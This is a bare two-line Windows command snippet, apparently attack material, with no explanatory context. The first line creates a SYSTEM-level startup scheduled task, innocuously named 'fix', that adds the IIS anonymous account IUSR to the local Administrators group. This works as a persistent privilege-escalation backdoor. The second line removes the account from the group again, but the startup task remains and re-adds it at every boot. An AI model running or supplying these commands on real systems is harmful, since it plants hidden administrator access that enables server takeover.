schtasks /create /tn fix /sc onstart /ru SYSTEM /tr "net localgroup Administrators IUSR /add" /f
net localgroup Administrators IUSR /delete
